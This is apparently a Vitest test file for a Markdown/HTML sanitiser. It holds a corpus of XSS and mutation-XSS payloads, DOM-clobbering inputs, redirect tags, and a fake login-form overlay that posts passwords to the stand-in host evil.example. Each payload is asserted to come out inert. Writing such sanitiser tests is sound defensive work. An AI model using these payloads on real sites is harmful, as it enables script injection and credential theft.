// @vitest-environment jsdom
// The strict sanitiser against an attack corpus: every Markdown render of the app (pastes,
// uploaded .md files, footer, announcement) goes through it, so none of this may survive.
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './render';
import { ID_PREFIX, sanitizeHtml } from './sanitize';

/** Parses sanitised HTML into a detached container for inspection. */
function dom(html: string): HTMLElement {
  const box = document.createElement('div');
  box.innerHTML = html;
  return box;
}

const URL_ATTRS = ['href', 'src', 'xlink:href', 'action', 'formaction', 'data', 'poster', 'srcset', 'background'];

/** What must never be in sanitised output, whatever the input. */
function expectInert(html: string) {
  const root = dom(html);
  const all = [...root.querySelectorAll('*')];
  expect(
    root.querySelectorAll(
      'script, style, form, input:not([type="checkbox"]), button, textarea, select, option, iframe, frame, ' +
        'object, embed, meta, base, link, template, dialog, noscript, foreignObject, animate, set',
    ).length,
    html,
  ).toBe(0);
  for (const el of all) {
    for (const attr of el.attributes) {
      expect(attr.name, `${el.tagName} ${attr.name}`).not.toMatch(/^on/i);
      if (URL_ATTRS.includes(attr.name)) {
        expect(attr.value, `${el.tagName} ${attr.name}`).not.toMatch(/^\s*(javascript|vbscript|data:(?!image\/))/i);
      }
      if (attr.name === 'id' || attr.name === 'name') expect(attr.value.startsWith(ID_PREFIX), attr.value).toBe(true);
      if (attr.name === 'style') expect(attr.value).not.toMatch(/position|inset|z-index|url\(|transform/i);
    }
  }
  for (const input of root.querySelectorAll('input')) expect(input.hasAttribute('disabled')).toBe(true);
  return root;
}

const CORPUS: Record<string, string> = {
  // Phishing: a fake login form over the page, posting to another host.
  'form overlay':
    '<div style="position:fixed;inset:0;z-index:99999;background:#fff"><form action="https://evil.example/steal" method="post">' +
    '<input name="password" type="password"><input type="submit" value="Log in"><button>Sign in</button></form></div>',
  'form in svg':
    '<svg><foreignObject><form action="https://evil.example/"><input name="p"></form></foreignObject></svg>',
  'formaction button': '<button formaction="https://evil.example/">x</button><input type="image" formaction="x">',
  'select and textarea': '<select name="a"><option>1</option></select><textarea name="b">t</textarea>',
  'checkbox stays disabled': '<input type="checkbox" name="task" value="1" checked>',
  // Styles.
  'style element': '<style>body{display:none} @import url(https://evil.example/x.css);</style>',
  'style in svg': '<svg><style>*{position:fixed}</style></svg>',
  'style in math': '<math><style>*{color:red}</style></math>',
  'inline overlay': '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647">x</div>',
  'absolute overlay': '<p style="position : absolute ; inset:0">x</p>',
  'css url': '<div style="background-image:url(https://evil.example/track.png)">x</div>',
  'css escape': '<div style="pos\\69tion:fixed">x</div>',
  'utility classes': '<div class="fixed inset-0 z-50 bg-black">x</div>',
  'link stylesheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'base href': '<base href="https://evil.example/">',
  // DOM clobbering: ids and names that would shadow globals or the app's own ids.
  'config clobbering':
    '<div id="__CLIPNEST_CONFIG__">x</div><a id="__CLIPNEST_CONFIG__" name="apiBaseUrl" href="https://evil.example">y</a>',
  'root clobbering': '<div id="root"></div><img name="getElementById" src="x.png"><form name="cookie"></form>',
  'svg clobbering': '<svg id="__CLIPNEST_CONFIG__"><g id="apiBaseUrl"></g></svg>',
  'name on embeds': '<img name="body" src="a.png"><img name="documentElement" src="b.png">',
  // Script in all its costumes.
  script: '<script>alert(1)</script>',
  'event handlers': '<img src=x onerror=alert(1)><details open ontoggle=alert(1)>d</details><body onload=alert(1)>',
  'svg script': '<svg><script>alert(1)</script><circle onload="alert(1)" r="1"/></svg>',
  'svg animate href':
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="9">x</text></a></svg>',
  'svg set': '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
  'svg use external': '<svg><use href="https://evil.example/x.svg#a"></use></svg>',
  'math href': '<math><mi xlink:href="javascript:alert(1)">x</mi><maction actiontype="statusline">y</maction></math>',
  'iframe srcdoc': '<iframe srcdoc="<script>alert(1)</script>"></iframe><iframe src="https://evil.example/"></iframe>',
  'object embed': '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
  // URLs.
  'javascript links':
    '<a href="javascript:alert(1)">a</a><a href="JaVaScRiPt&colon;alert(1)">b</a><a href=" &#x6A;avascript:alert(1)">c</a>',
  'vbscript link': '<a href="vbscript:msgbox(1)">v</a>',
  'data html link': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
  'data svg iframe': '<iframe src="data:image/svg+xml,<svg onload=alert(1)>"></iframe>',
  'markdown javascript link': '[x](javascript:alert(1))',
  // mXSS classics.
  'math style mxss':
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  'noscript mxss': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'svg p mxss': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'form nesting mxss': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'template mxss': '<template><style></template><img src=x onerror=alert(1)>//</style></template>',
  'comment mxss': '<!--><img src=x onerror=alert(1)>-->',
  'textarea mxss': '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  'xmp mxss': '<xmp><img src=x onerror=alert(1)></xmp>',
  'autofocus popover': '<div popover id="p" autofocus tabindex="1" accesskey="x">p</div>',
  'dialog open': '<dialog open>modal</dialog>',
};

describe('strict Markdown sanitiser corpus', () => {
  it.each(Object.entries(CORPUS))('%s is inert', (_name, input) => {
    expectInert(sanitizeHtml(input));
  });

  it.each(Object.entries(CORPUS))('%s is inert through the Markdown renderer', async (_name, input) => {
    expectInert(await renderMarkdown(input));
  });

  it('keeps the text of a neutralised form but not the form', () => {
    const root = expectInert(sanitizeHtml(CORPUS['form overlay'] as string));
    expect(root.querySelector('[style]')).toBeNull();
    expect(root.querySelector('input')).toBeNull();
  });

  it('keeps harmless task-list checkboxes, disabled and unnamed', () => {
    const input = dom(sanitizeHtml(CORPUS['checkbox stays disabled'] as string)).querySelector('input');
    expect(input?.getAttribute('type')).toBe('checkbox');
    expect(input?.hasAttribute('disabled')).toBe(true);
    expect(input?.hasAttribute('name')).toBe(false);
  });

  it('prefixes ids so content cannot shadow the runtime config or app ids', () => {
    const root = dom(sanitizeHtml(CORPUS['config clobbering'] as string));
    expect(root.querySelector('div')?.id).toBe(`${ID_PREFIX}__CLIPNEST_CONFIG__`);
    expect(root.querySelector('a')?.getAttribute('name')).toBe(`${ID_PREFIX}apiBaseUrl`);
  });

  it('points in-page links at the prefixed ids; heading anchors keep working', async () => {
    const html = await renderMarkdown(
      '# Getting started\n\nSee [below](#getting-started) and [top](#top).\n\n<a id="top"></a>',
    );
    const root = expectInert(html);
    expect(root.querySelector('h1')?.id).toBe(`${ID_PREFIX}getting-started`);
    const links = [...root.querySelectorAll('a[href]')].map((a) => a.getAttribute('href'));
    expect(links).toEqual([`#${ID_PREFIX}getting-started`, `#${ID_PREFIX}top`]);
    expect(root.querySelector('a[href^="#"]')?.hasAttribute('target')).toBe(false);
  });

  it('opens outside links in a new tab without an opener', () => {
    const a = dom(sanitizeHtml('<a href="https://example.com/">x</a>')).querySelector('a');
    expect(a?.getAttribute('target')).toBe('_blank');
    expect(a?.getAttribute('rel')).toContain('noopener');
  });

  it('renders line breaks for short site texts only when asked', async () => {
    expect(dom(await renderMarkdown('a\nb', { breaks: true })).querySelector('br')).not.toBeNull();
    expect(dom(await renderMarkdown('a\nb')).querySelector('br')).toBeNull();
  });

  it("keeps KaTeX's TeX annotation in place (not as loose text in the formula); annotation-xml stays out", async () => {
    const root = expectInert(await renderMarkdown('$E = mc^2$'));
    const math = root.querySelector('.katex-mathml math');
    expect(math?.querySelector('semantics > annotation[encoding="application/x-tex"]')?.textContent).toBe('E = mc^2');
    expect([...(math?.childNodes ?? [])].some((n) => n.nodeType === Node.TEXT_NODE)).toBe(false);

    const hostile = expectInert(
      sanitizeHtml(
        '<math><semantics><mi>x</mi><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml>' +
          '<annotation encoding="application/x-tex"><img src=x onerror=alert(2)></annotation></semantics></math>',
      ),
    );
    expect(hostile.querySelector('annotation-xml')).toBeNull();
  });
});
